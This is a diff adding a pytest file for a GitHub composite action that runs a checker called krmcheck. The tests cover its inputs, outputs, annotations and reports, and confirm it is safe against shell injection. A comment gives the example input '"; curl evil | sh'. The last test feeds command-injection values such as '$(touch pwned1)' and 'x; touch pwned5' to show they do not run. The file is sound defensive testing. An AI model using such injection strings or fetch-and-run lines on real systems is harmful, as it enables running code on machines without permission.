@@ -1,0 +1,198 @@
+"""The GitHub Action (action.yml): its interface, and its run step executed
+with bash the way a runner executes it, against the example repositories.
+
+The install step is not run: ``krmcheck`` on PATH is a shim that runs this
+working tree with the current interpreter.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import stat
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import pytest
+import yaml
+
+from tests.test_fixtures import CLEAN, DEFECTS, DEMO, ERROR_COUNT, REACHED_BY
+
+PROJECT = Path(__file__).resolve().parent.parent
+ACTION = yaml.safe_load((PROJECT / "action.yml").read_text())
+STEPS = {step.get("id"): step for step in ACTION["runs"]["steps"]}
+RUN_STEP = STEPS["krmcheck"]
+# GitHub runs a composite step with `shell: bash` as this command.
+BASH = ["bash", "--noprofile", "--norc", "-eo", "pipefail"]
+_INPUT = re.compile(r"^\$\{\{\s*inputs\.([A-Za-z0-9_-]+)\s*\}\}$")
+
+needs_bash = pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
+
+
+class StepRun(NamedTuple):
+    status: int
+    stdout: str
+    outputs: str
+    summary: str
+
+
+def test_is_a_composite_action_with_the_documented_inputs() -> None:
+    assert ACTION["runs"]["using"] == "composite"
+    defaults = {name: spec.get("default") for name, spec in ACTION["inputs"].items()}
+    assert defaults == {"paths": ".", "args": "", "fail-on": "error", "junit": "", "sarif": ""}
+
+
+def test_outputs_come_from_the_run_step() -> None:
+    assert ACTION["outputs"]["errors"]["value"] == "${{ steps.krmcheck.outputs.errors }}"
+    assert ACTION["outputs"]["warnings"]["value"] == "${{ steps.krmcheck.outputs.warnings }}"
+
+
+def test_installs_from_the_actions_own_checkout() -> None:
+    assert '"$GITHUB_ACTION_PATH"' in STEPS["install"]["run"]
+
+
+def test_no_expression_is_interpolated_into_a_script() -> None:
+    # ${{ }} inside `run:` is pasted into the script text before bash sees
+    # it: an input holding `"; curl evil | sh` would run. Inputs travel in env.
+    for step in ACTION["runs"]["steps"]:
+        assert "${{" not in step.get("run", ""), step.get("name")
+        assert step.get("shell") == "bash", step.get("name")
+    assert set(input_env({}).values()) == set(_defaults().values())
+
+
+def _defaults() -> dict[str, str]:
+    return {name: str(spec.get("default", "")) for name, spec in ACTION["inputs"].items()}
+
+
+def input_env(inputs: dict[str, str]) -> dict[str, str]:
+    """The run step's environment for these inputs (defaults for the rest),
+    as the runner would evaluate its `env:` expressions."""
+    values = {**_defaults(), **inputs}
+    env = {}
+    for name, expression in RUN_STEP["env"].items():
+        m = _INPUT.match(str(expression))
+        assert m, f"{name}: only plain input expressions are expected, got {expression!r}"
+        env[name] = values[m.group(1)]
+    return env
+
+
+@pytest.fixture(scope="module")
+def shim(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A directory whose `krmcheck` runs this working tree's CLI."""
+    bin_dir = tmp_path_factory.mktemp("bin")
+    script = bin_dir / "krmcheck"
+    script.write_text(
+        "#!/bin/sh\n"
+        f"PYTHONPATH='{PROJECT}'${{PYTHONPATH:+:$PYTHONPATH}} exec '{sys.executable}' -m krmcheck \"$@\"\n")
+    script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
+    return bin_dir
+
+
+def run_step(workspace: Path, shim: Path, tmp_path: Path, **inputs: str) -> StepRun:
+    outputs = tmp_path / "github_output"
+    summary = tmp_path / "step_summary"
+    # Earlier steps' lines must survive: the CLI appends.
+    outputs.write_text("earlier=1\n")
+    summary.write_text("earlier step\n")
+    script = tmp_path / "step.sh"
+    script.write_text(RUN_STEP["run"])
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INPUT_"))}
+    env.update(input_env(inputs))
+    env.update(GITHUB_ACTIONS="true", GITHUB_OUTPUT=str(outputs), GITHUB_STEP_SUMMARY=str(summary),
+               GITHUB_WORKSPACE=str(workspace), PATH=f"{shim}{os.pathsep}{env.get('PATH', '')}")
+    done = subprocess.run([*BASH, str(script)], cwd=workspace, env=env, capture_output=True,
+                          text=True, timeout=300)
+    return StepRun(done.returncode, done.stdout + done.stderr, outputs.read_text(), summary.read_text())
+
+
+def copy(source: Path, tmp_path: Path) -> Path:
+    target = tmp_path / "workspace"
+    shutil.copytree(source, target)
+    return target
+
+
+def step_outputs(text: str) -> dict[str, Any]:
+    return dict(line.split("=", 1) for line in text.splitlines() if "=" in line)
+
+
+@needs_bash
+def test_demo_fails_and_sets_outputs(tmp_path: Path, shim: Path) -> None:
+    result = run_step(copy(DEMO, tmp_path), shim, tmp_path)
+    assert result.status == 1, result.stdout
+    outputs = step_outputs(result.outputs)
+    assert outputs == {"earlier": "1", "errors": str(ERROR_COUNT), "warnings": "0"}
+
+
+@needs_bash
+def test_demo_annotates_each_defect(tmp_path: Path, shim: Path) -> None:
+    result = run_step(copy(DEMO, tmp_path), shim, tmp_path)
+    annotations = [line for line in result.stdout.splitlines() if line.startswith("::error ")]
+    assert len(annotations) == ERROR_COUNT
+    for path, line, col, _validator, _fragment in DEFECTS:
+        wanted = f"::error file={path},line={line},col={col},"
+        assert sum(a.startswith(wanted) for a in annotations) == len(REACHED_BY[path]), wanted
+
+
+@needs_bash
+def test_demo_job_summary_lists_each_defect(tmp_path: Path, shim: Path) -> None:
+    result = run_step(copy(DEMO, tmp_path), shim, tmp_path)
+    assert result.summary.startswith("earlier step\n")
+    added = result.summary[len("earlier step\n"):]
+    assert "krmcheck" in added
+    assert f"{ERROR_COUNT} errors" in added
+    for path, line, col, *_ in DEFECTS:
+        assert f"{path}:{line}:{col}" in added
+
+
+@needs_bash
+def test_clean_passes(tmp_path: Path, shim: Path) -> None:
+    result = run_step(copy(CLEAN, tmp_path), shim, tmp_path)
+    assert result.status == 0, result.stdout
+    assert step_outputs(result.outputs) == {"earlier": "1", "errors": "0", "warnings": "0"}
+    assert "::error" not in result.stdout
+
+
+@needs_bash
+def test_fail_on_never_passes_but_still_counts(tmp_path: Path, shim: Path) -> None:
+    result = run_step(copy(DEMO, tmp_path), shim, tmp_path, **{"fail-on": "never"})
+    assert result.status == 0, result.stdout
+    assert step_outputs(result.outputs)["errors"] == str(ERROR_COUNT)
+
+
+@needs_bash
+def test_args_are_passed_after_the_inputs(tmp_path: Path, shim: Path) -> None:
+    # A later --fail-on wins with argparse, so args can override fail-on.
+    result = run_step(copy(DEMO, tmp_path), shim, tmp_path, args="--strict  --fail-on never")
+    assert result.status == 0, result.stdout
+
+
+@needs_bash
+def test_paths_split_on_blanks_and_new_lines(tmp_path: Path, shim: Path) -> None:
+    paths = "apps/web/overlays/staging\n  apps/api/overlays/staging \n"
+    result = run_step(copy(DEMO, tmp_path), shim, tmp_path, paths=paths)
+    assert result.status == 1, result.stdout
+    # web/staging has the images: defect, api/staging the base one.
+    assert step_outputs(result.outputs)["errors"] == "2"
+
+
+@needs_bash
+def test_junit_and_sarif_inputs_write_reports(tmp_path: Path, shim: Path) -> None:
+    workspace = copy(DEMO, tmp_path)
+    result = run_step(workspace, shim, tmp_path, junit="krmcheck.xml", sarif="krmcheck.sarif")
+    assert result.status == 1, result.stdout
+    assert "<testsuites" in (workspace / "krmcheck.xml").read_text()
+    assert '"version": "2.1.0"' in (workspace / "krmcheck.sarif").read_text()
+
+
+@needs_bash
+def test_inputs_cannot_inject_shell(tmp_path: Path, shim: Path) -> None:
+    workspace = copy(CLEAN, tmp_path)
+    hostile = '$(touch pwned1) `touch pwned2` "; touch pwned3; echo "'
+    result = run_step(workspace, shim, tmp_path, paths=hostile, args="$(touch pwned4)",
+                      junit="x; touch pwned5")
+    assert not list(workspace.glob("pwned*")) and not list(tmp_path.glob("pwned*"))
+    # The hostile words arrive as literal (missing) paths: a usage error.
+    assert result.status == 2, result.stdout
